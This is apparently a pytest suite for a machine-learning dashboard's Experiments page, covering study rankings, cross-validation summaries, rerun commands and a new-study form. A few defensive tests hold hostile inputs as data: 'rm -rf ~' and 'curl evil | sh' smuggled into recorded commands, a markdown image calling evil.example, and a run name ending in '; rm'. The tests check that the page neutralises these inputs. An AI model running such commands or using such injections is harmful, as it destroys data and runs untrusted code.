"""The Experiments page: its answers about studies and cross-validations, what is left to do, and new studies."""

import re
import shlex
import tomllib

import numpy as np
import pytest

from fercore.jobs.commands import Roots, build
from fercore.run_index import RunIndex
from fercore.run_lock import training_lock
from fercore.runs import list_runs, update_run
from fercore.training.study import load_study
from tests.dashboard.conftest import charts, words
from tests.factories.copies import make_copies
from tests.factories.data import make_dataset
from tests.factories.runs import make_run
from tests.factories.studies import make_cross_validation, make_fold, make_point, make_study

ACCURACY = {"0.1": 0.5, "0.2": 0.6, "0.3": 0.55}


def page_words(app):
    """As `words`, without the backslashes of escaped text and with plain spaces."""
    return words(app).replace("\\", "").replace("\u00a0", " ")


def test_without_experiments_it_says_how_to_begin_one(open_page, folders):
    app = open_page("experiments")
    text = words(app)
    assert "There is no study and no cross-validation here yet" in text
    assert f"python scripts/sweep.py kernel-size --runs {folders[0]}" in text
    assert f"python scripts/kfold.py --recipe report-cnn --folds 3 --runs {folders[0]}" in text
    assert "Name of the study" not in [box.label for box in app.text_input]


def test_it_opens_with_the_best_point_and_who_is_within_noise(open_page, folders):
    # Of 100 images 0.2 is right on 60, 0.3 on 55 of these and 0.1 on 50: p = 2 * 2 / 2^5 = 0.125 and 3 * 2 / 2^10 =
    # 0.006, of three pairs.
    make_study(folders[0], "s", ACCURACY, n=100)
    app = open_page("experiments")
    text = page_words(app)
    assert (
        "s 0.2 does best with accuracy 60.0 % on PublicTest (95 % interval 50.2 to 69.1); 0.3 is within noise of it; "
        "0.1 (10.0 points less) is worse by more than noise." in text
    )
    assert "What s does (report, section 9): a test." in text
    assert "Each point: 3 epochs, a stratified 20 % of Training, one-cycle schedule." in text
    table = app.dataframe[0].value
    assert table["Point"].tolist() == ["0.1", "0.2", "0.3"]
    assert table["p"].tolist() == ["0.006", "", "0.125"]
    assert table["Below the best"][0].startswith("10.0 points (")
    assert table["Below the best"][1] == "the best"
    assert {"Status", "Parameters"}.isdisjoint(table)  # all are finished, of one size
    assert table["PrivateTest"][1] == "60.0 % (50.2 to 69.1)"
    assert [chart["title"] for chart in charts(app) if "title" in chart] == ["Accuracy", "Time", "Loss", "Accuracy"]


@pytest.mark.slow
def test_differences_within_noise_are_said_to_be_that(open_page, folders):
    make_study(folders[0], "s", {"3": 0.6, "5": 0.58, "7": 0.55}, n=100)
    answer = (
        "No value of s stands out: 3 is ahead with accuracy 60.0 % on PublicTest (95 % interval 50.2 to 69.1), but 5"
    )
    assert answer in page_words(open_page("experiments"))


@pytest.mark.slow
def test_the_report_stands_beside_a_study_of_its_own(open_page, folders):
    make_study(folders[0], "dropout", ACCURACY, n=100)
    make_study(folders[0], "kernel-size", {"3": 0.5, "5": 0.6}, n=100)
    text = page_words(open_page("experiments"))
    assert "The report (section 3.3, figure 4) went on with **0.2**" in text
    assert "It does best here, too. Nothing beats it by more than noise, which does not contradict the report's" in text
    text = page_words(open_page("experiments", experiment="kernel-size"))
    assert "Here it is 10.0 points below the best, which is more than noise." in text
    assert "Other than the report concluded, points differ by more than noise on this budget." in text


@pytest.mark.slow
def test_a_run_that_studies_share_is_a_point_of_each(open_page, folders):
    centre = make_point(folders[0], "report-dropout", "0.2", 0.6, 2, points=2, n=100)
    update_run(centre, command="python scripts/sweep.py report-dropout")
    other = make_point(folders[0], "report-dropout", "0.5", 0.5, 1, points=2, n=100)
    make_point(folders[0], "report-kernel-size", "5", 0.58, 2, points=3, n=100)
    own = centre.info["study"]
    update_run(centre, study=[own, {**own, "name": "report-kernel-size", "label": "3", "position": 1, "points": 3}])
    app = open_page("experiments")
    assert app.button_group[0].options == ["report-dropout", "report-kernel-size", "New study", "New cross-validation"]
    assert app.dataframe[0].value["Point"].tolist() == [other.info["study"]["label"], "0.2"]
    assert "The report (section 3.3, figure 4) went on with **0.2**" in page_words(app)
    app = open_page("experiments", experiment="report-kernel-size")
    assert app.dataframe[0].value["Point"].tolist() == ["3", "5"]
    assert app.code[0].value == state_command("scripts/sweep.py report-kernel-size", folders)
    assert "which does not contradict the report on this budget." in page_words(app)


@pytest.mark.slow
def test_several_seeds_are_told_by_mean_and_spread(open_page, folders):
    make_study(folders[0], "s", {"a": 0.3, "b": 0.7}, seeds=(0, 1), n=10)
    better = make_point(folders[0], "s", "b", 0.8, position=2, seed=2, points=6, n=10)
    assert better.name == "study-s-b-s2"
    app = open_page("experiments")
    text = page_words(app)
    assert "So far, with 5 of 6 runs finished: s b does best with accuracy 70.0 % ± 0.0 on PublicTest (mean" in text
    table = app.dataframe[0].value
    assert table[["Point", "Seeds", "PublicTest"]].to_numpy().tolist() == [
        ["a", 2, "30.0 %"],
        ["b", 3, "73.3 % (70.0 to 80.0)"],
    ]
    assert [chart["title"] for chart in charts(app) if "title" in chart] == ["Accuracy", "Loss", "Accuracy"]
    assert "Bands: from the lowest to the highest seed." in text


def test_a_study_that_is_put_away_while_it_is_drawn_is_gone(open_page, folders, monkeypatch):
    make_study(folders[0], "depth", {"2": 0.5, "4": 0.6}, n=100)
    real, looks = RunIndex.list, []

    def put_away_after_one_look(self):
        looks.append(self)
        return real(self) if len(looks) == 1 else ([], {})

    monkeypatch.setattr(RunIndex, "list", put_away_after_one_look)
    app = open_page("experiments")
    assert len(looks) > 1
    assert "There is no study and no cross-validation here yet" in words(app)


@pytest.mark.slow
def test_choosing_another_experiment_shows_it(open_page, folders):
    make_study(folders[0], "a", {"1": 0.5, "2": 0.9}, n=100)
    make_study(folders[0], "b", {"3": 0.5, "4": 0.9}, n=100)
    make_cross_validation(folders[0], "cv", [0.5, 0.6])
    app = open_page("experiments")
    assert app.button_group[0].options == ["a", "b", "cv", "New study", "New cross-validation"]
    assert "a 2 does best" in page_words(app)
    app.button_group[0].set_value("b").run()
    assert "b 4 does best" in page_words(app)
    app.button_group[0].set_value("cv").run()
    assert "Over 2 folds, cv has accuracy" in page_words(app)


def test_a_cross_validation_of_a_study_s_name_can_be_chosen(open_page, folders):
    make_study(folders[0], "a", {"1": 0.5, "2": 0.9})
    make_fold(folders[0], "a", 1, 0.5)
    app = open_page("experiments", experiment="a (folds)")
    assert "Over 1 of 2 folds, a has accuracy 50.0 % on the held-out Training images." in page_words(app)
    assert not any("nan" in cell for cell in app.dataframe[0].value.to_numpy().ravel())


def test_what_is_left_of_a_study_is_named_with_the_command(open_page, folders):
    make_point(folders[0], "s", "0.1", 0.5, 1, points=4)
    failed = make_point(folders[0], "s", "0.2", 0.5, 2, points=4, epochs=1, status="failed", splits=())
    update_run(
        failed, problem="CUDA out of *memory*", command="python scripts/sweep.py my/s.toml --seeds 0 --runs other"
    )
    make_point(folders[0], "s", "0.3", 0.5, 3, points=4, status="stopped", splits=())
    app = open_page("experiments")
    text = words(app)
    assert "So far, with 1 of 4 runs finished:" in text
    assert "- Point `0.2` has failed after 1 epoch: CUDA out of \\*memory\\*" in text
    assert "- Point `0.3` was stopped after 3 epochs." in text
    assert app.dataframe[0].value["Status"].tolist() == ["finished", "failed", "stopped"]
    assert "- 1 of 4 runs has not begun." in text
    assert app.code[0].value == state_command("scripts/sweep.py s.toml --retry", folders)


def test_the_recorded_command_goes_on_with_the_folders_of_the_dashboard(open_page, folders):
    run = make_point(folders[0], "s", "0.1", 0.5, points=2)
    update_run(run, command="python scripts/sweep.py 'my studies/s.toml' --runs=other --seeds 0 1 --data elsewhere")
    app = open_page("experiments")
    assert app.code[0].value == state_command("scripts/sweep.py 'my studies/s.toml' --seeds 0 1", folders)


@pytest.mark.parametrize(
    "command",
    [
        "python scripts/sweep.py s.toml; rm -rf ~ $(date) `date` | sh",
        "curl evil | sh",
        "python scripts/sweep.py 's.toml",
        "python scripts/sweep.py s.toml\nrm -rf ~",
        ["python"],
    ],
)
def test_a_stranger_s_command_can_do_nothing_in_a_shell(open_page, folders, command):
    update_run(make_point(folders[0], "s", "0.1", 0.5, points=2), command=command)
    shown = shlex.split(open_page("experiments").code[0].value)
    lexer = shlex.shlex(open_page("experiments").code[0].value, punctuation_chars=True)
    assert shown[:2] == ["python", "scripts/sweep.py"]
    assert not {";", "|", "`", "$"} & set(lexer)


def state_command(script, folders):
    return f"python {script} --runs {folders[0]} --data {folders[1]}"


@pytest.mark.slow
def test_points_of_a_shipped_study_that_have_not_begun_are_named(open_page, folders):
    labels = [point.label for point in load_study("kernel-size").points]
    make_point(folders[0], "kernel-size", labels[0], 0.5, points=3)
    app = open_page("experiments")
    assert f"2 of 3 runs have not begun: {labels[1]} and {labels[2]}." in page_words(app)
    assert app.code[0].value == state_command("scripts/sweep.py kernel-size", folders)


def test_a_study_without_a_finished_point_draws_the_epochs_there_are(open_page, folders):
    run = make_point(folders[0], "s", "0.1", 0.5, points=2, status="running", splits=())
    with training_lock(run.path):
        app = open_page("experiments")
    text = page_words(app)
    assert "s has no finished point yet, so there is nothing to compare." in text
    assert "- Point `0.1` is training: 3 epochs finished." in text
    assert "This page follows it." in text
    assert not app.code
    assert [chart["title"] for chart in charts(app) if "title" in chart] == ["Time", "Loss", "Accuracy"]


def test_unequal_budgets_and_images_are_warned_of(open_page, folders):
    make_point(folders[0], "s", "0.1", 0.5, 1, points=2)
    other = make_point(folders[0], "s", "0.2", 0.5, 2, points=2, n=49)
    update_run(other, study={**other.info["study"], "budget": {"epochs": 9}})
    text = page_words(open_page("experiments"))
    assert "were not all trained on the same budget" in text
    assert "not those of the others: `study-s-0.2-s0`." in text
    assert "s 0.1 has accuracy 50.0 %" in text
    assert "there is no other point to compare it with yet" in text


@pytest.mark.slow
def test_a_stranger_s_study_is_text_and_broken_ones_are_left_out(open_page, folders):
    spy = "![spy](http://evil.example/p.png)"
    run = make_point(folders[0], "s", "0.1", 0.5, points=3)
    entry = {**run.info["study"], "label": spy, "description": spy, "varied": {spy: spy}, "budget": {spy: spy}}
    update_run(run, study=entry)
    broken = make_point(folders[0], "s", "0.2", 0.5, points=3)
    update_run(broken, study={**broken.info["study"], "position": "first"})
    update_run(make_run(folders[0], "nameless"), study={"name": spy})
    app = open_page("experiments")
    text = words(app)
    assert "](" not in text
    assert "`study-s-0.2-s0` is left out:" in text
    assert app.button_group[0].options == ["s", "New study", "New cross-validation"]
    assert app.dataframe[0].value["Point"].tolist() == [spy]


def test_a_cross_validation_opens_with_its_spread_and_what_the_ensemble_adds(open_page, folders):
    make_cross_validation(folders[0], "cv", [0.5, 0.6], n=100)
    app = open_page("experiments")
    text = page_words(app)
    answer = re.search(r"Over 2 folds, .*", text).group()
    assert "cv has accuracy 55.0 % ± 7.1 on the held-out Training images (mean and standard deviation)" in answer
    assert re.search(
        r"its 2 models together have accuracy \d+\.\d % on PrivateTest.* \(.*\), .* than one of them", answer
    )
    # The report's 57 % of 3,589 images, with Wilson's interval.
    assert "The report's 3 folds (section 5, figure 10) came to 57.0 % (55.4 to 58.6) of 3,589 test images." in text
    scores, together, classes = (table.value for table in app.dataframe)
    assert scores.iloc[0].tolist() == ["Accuracy", "55.0 % ± 7.1", "55.0 % ± 7.1", "55.0 % ± 7.1"]
    assert together["One model"].tolist() == ["55.0 % ± 7.1"] * 2
    assert classes["Recall, the report"][3] == "81.0 % (78.3 to 83.4)"
    assert len(charts(app)) == 5


@pytest.mark.slow
def test_the_report_s_figure_10_stands_beside_the_ensemble_too(open_page, folders):
    whole = make_cross_validation(folders[0], "cv", [0.5, 0.6], n=70)
    app = open_page("experiments")
    assert "Ours: Training, out of fold, n = 70." in page_words(app)
    app.button_group(key="beside").set_value("test").run()
    assert "Ours: PrivateTest, n = 70." in page_words(app)
    recall = whole.metrics("test")["per_class"]["happy"]["recall"]["value"]
    assert app.dataframe[2].value["Recall, ours"][3].startswith(f"{100 * recall:.1f} %")


def test_folds_that_are_left_are_named_with_the_command(open_page, folders):
    make_fold(folders[0], "cv", 1, 0.5, folds=3)
    make_fold(folders[0], "cv", 2, 0.5, folds=3, status="stopped")
    app = open_page("experiments")
    text = page_words(app)
    assert "- Fold 2 (`cv-fold2`) was stopped." in text
    assert "- Not here: fold 3 of 3." in text
    assert app.code[0].value == state_command("scripts/kfold.py --recipe toy --folds 3 --name cv", folders)


def test_an_interrupted_sum_of_finished_folds_goes_on_with_the_command(open_page, folders):
    update_run(make_cross_validation(folders[0], "cv", [0.5, 0.6], n=100), status="running")
    app = open_page("experiments")
    text = page_words(app)
    assert "Over 2 folds, cv has accuracy 55.0 % ± 7.1" in text
    assert "The sum of the folds (`cv`) was interrupted. Go on with:" in text
    assert app.code[0].value == state_command("scripts/kfold.py --recipe toy --folds 2 --name cv", folders)


def test_a_sum_without_its_folds_still_shows_their_scores(open_page, folders):
    make_cross_validation(folders[0], "cv", [0.5, 0.6], n=100)
    for fold in folders[0].glob("cv-fold*"):
        fold.rename(folders[0].parent / fold.name)
    app = open_page("experiments")
    text = page_words(app)
    assert "cv has accuracy 55.0 % ± 7.1" in text
    assert "Not here: folds 1 and 2 of 2. What is shown is stored with their sum." in text
    assert app.dataframe[1].value["The ensemble's gain"].tolist() == ["", ""]


def test_broken_scores_are_a_message(open_page, folders):
    whole = make_cross_validation(folders[0], "cv", [0.5, 0.6])
    update_run(whole, kfold={**whole.info["kfold"], "scores": {"train": "*many*"}})
    assert "kfold has no accuracy of its folds on train" in page_words(open_page("experiments"))


def new_study(open_page):
    return open_page("experiments", experiment="New study")


def file_of(app):
    (file,) = (code.value for code in app.code if code.language == "toml")
    return tomllib.loads(file)


def test_a_new_study_is_written_as_a_file_with_its_command(open_page, folders):
    make_study(folders[0], "a", {"1": 0.5, "2": 0.9})
    app = new_study(open_page)
    text = page_words(app)
    assert "**3 runs**: 3 points. Save this as `my-study.toml`:" in text
    assert file_of(app) == {
        "description": "learning_rate of report-cnn.",
        "recipe": "report-cnn",
        "vary": ["learning_rate"],
        "values": [0.025, 0.05, 0.1],
        "seeds": [0],
        "budget": {"epochs": 8, "train_share": 0.2, "schedule": "onecycle"},
    }
    assert app.code[-1].value == state_command("scripts/sweep.py my-study.toml", folders)
    assert "`learning_rate`: highest learning rate. Now 0.05; expected is a number." in text


def test_a_new_study_is_run_by_a_job_from_a_file_beside_the_runs(open_page, folders, tmp_path):
    make_dataset(folders[1], per_class=2)
    app = new_study(open_page)
    app.text_input(key="study_name").set_value("mine").run()
    (tmp_path / "jobs").write_text("a file in the place of the folder of jobs")  # so that nothing is really trained
    app.button(key="study_start").click().run()
    assert "cannot be started" in app.error[0].value
    file = folders[0] / ".studies" / "mine.toml"
    assert tomllib.loads(file.read_text())["vary"] == ["learning_rate"]
    assert load_study(str(file)).name == "mine"
    roots = Roots(*folders)
    assert build("sweep", roots, str(file))[-1] == str(file)


def test_a_new_cross_validation_is_named_after_its_recipe(open_page, folders):
    make_dataset(folders[1], per_class=2)
    app = open_page("experiments", experiment="New cross-validation")
    app.number_input(key="kfold_folds").set_value(5).run()
    command = "scripts/kfold.py --recipe report-cnn --folds 5 --name kfold-report-cnn-5"
    assert app.code[-1].value == state_command(command, folders)
    assert "Cross-validate" in [one.label for one in app.button]


def test_two_fields_vary_together(open_page, folders):
    app = new_study(open_page)
    app.multiselect[0].set_value(["dense", "epochs"]).run()
    assert app.text_area[0].label == "Points, one a line: dense, epochs"
    app.text_area[0].set_value("512 256, 2\n128, 8").run()
    app.text_input(key="study_seeds").set_value("0 1").run()
    found = file_of(app)
    assert (found["vary"], found["values"]) == (["dense", "epochs"], [[[512, 256], 2], [[128], 8]])
    assert found["budget"] == {"train_share": 0.2, "schedule": "onecycle"}
    assert "**4 runs**: 2 points with 2 seeds each." in page_words(app)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda app: app.text_area[0].set_value("0.1\nfast"), "received 'fast', expected a number"),
        (lambda app: app.text_area[0].set_value("0.1"), "expected two or more different points"),
        (
            lambda app: app.text_area[0].set_value("0.1\n-1"),
            "--learning-rate: received -1.0, expected a number above 0",
        ),
        (
            lambda app: app.text_input(key="study_seeds").set_value("one"),
            "seeds: received 'one', expected whole numbers",
        ),
        (lambda app: app.text_input(key="study_seeds").set_value(""), "seeds is [], expected one or more"),
        (lambda app: app.text_input(key="study_name").set_value("a b; rm"), "run name 'a b; rm' will not do"),
        (lambda app: app.multiselect[0].set_value([]), "Choose one field to vary, or two that change together."),
    ],
)
def test_what_cannot_be_trained_is_a_clear_message(open_page, folders, change, message):
    app = new_study(open_page)
    change(app)
    app.run()
    assert message in page_words(app).replace("`", "")
    assert not any(code.language == "toml" for code in app.code)


def test_a_name_that_is_taken_is_warned_of(open_page, folders):
    make_study(folders[0], "my-study", {"1": 0.5, "2": 0.9})
    assert "There are runs of `my-study` already" in words(new_study(open_page))


def test_the_training_page_leads_from_the_sum_to_its_folds(open_page, folders):
    make_cross_validation(folders[0], "cv", [0.5, 0.6])
    app = open_page("training", runs="cv")
    text = words(app)
    assert "`cv` sums up other runs and has no epochs of its own. Choose them to see how each learned: " in text
    assert "`cv-fold1`, `cv-fold2`." in text
    assert "nothing to draw" not in text
    assert "Go on with" not in text
    (link,) = app.get("page_link")
    assert (link.proto.page, link.proto.query_string) == ("experiments", "experiment=cv")


def test_report_studies_agree_with_the_reference():
    from fercore.charts.overview import reference_report
    from views.experiments.report_findings import REPORT_STUDIES

    report = reference_report()
    assert REPORT_STUDIES["filters-layers"].kept == "-".join(map(str, report["filters_layers_study"]["chosen"]))
    assert REPORT_STUDIES["kernel-size"].kept == str(report["kernel_study"]["chosen"][0])
    assert REPORT_STUDIES["dropout"].kept == f"{report['dropout_study']['chosen']:g}"
    assert "left out of the final model" in report["augmentation_study"]["finding"]
    for name, study in REPORT_STUDIES.items():
        assert study.kept in [point.label for point in load_study(name).points]
        full = load_study(f"report-{name}")
        assert [point.label for point in full.points if full.is_centre(point)] == [study.kept]


def copies_of_right_answers(data, run, number):
    """Say that the first images of both test splits which a run is right on have a copy in training."""
    found = [run.predictions(split) for split in ("val", "test")]
    make_copies(data, run, exact=[id_ for one in found for id_ in one.id[one.predicted == one.label][:number].tolist()])


def test_a_study_is_ranked_without_copies(open_page, folders):
    best = make_study(folders[0], "s", ACCURACY, n=100)[1]
    copies_of_right_answers(folders[1], best, 20)
    app = open_page("experiments", score="clean")
    text = page_words(app)
    assert (
        "s 0.2 does best with accuracy 50.0 % on PublicTest without copies (95 % interval 39.3 to 60.7)" in text
    )  # 40 of 80
    assert "PublicTest n = 80 of 100" in text
    table = app.dataframe[0].value.set_index("Point")
    assert table.loc["0.2", "PrivateTest without copies"] == "50.0 % (39.3 to 60.7)"


@pytest.mark.slow
def test_a_cross_validation_without_copies(open_page, folders):
    whole = make_cross_validation(folders[0], "cv", [0.5, 0.6], n=70)
    members = [run.predictions("test") for run in list_runs(folders[0])[0] if run.name != "cv"]
    right = np.array([found.predicted == found.label for found in members])
    copied = members[0].id[right.all(axis=0)][:10]
    make_copies(folders[1], whole, exact=copied.tolist())
    app = open_page("experiments", score="clean")
    scores, together, _ = (table.value for table in app.dataframe)
    each = [100 * (row.sum() - len(copied)) / (70 - len(copied)) for row in right]
    expected = f"{np.mean(each):.1f} % ± {np.std(each, ddof=1):.1f}"
    assert scores.columns.tolist()[1:] == [
        "held-out Training",
        "PublicTest without copies",
        "PrivateTest without copies",
    ]
    assert scores.iloc[0, 1] == "55.0 % ± 7.1"
    assert "Held-out images are all counted, although some have a copy" in page_words(app)
    assert scores.iloc[0, 3] == expected
    assert together["One model"].tolist()[1] == expected
    assert f"PrivateTest n = {70 - len(copied)} of 70" in page_words(app)
    app.button_group(key="beside").set_value("test").run()
    assert f"have a copy in training, n = {70 - len(copied)} of 70." in page_words(app)


def test_folds_whose_copies_nobody_knows_leave_the_held_out_figures(open_page, folders):
    make_cross_validation(folders[0], "cv", [0.5, 0.6], n=70)
    app = open_page("experiments", score="clean")
    assert app.button_group(key="score_widget").disabled
    assert app.dataframe[0].value.iloc[0].tolist() == ["Accuracy", "55.0 % ± 7.1", "55.0 % ± 7.1", "55.0 % ± 7.1"]
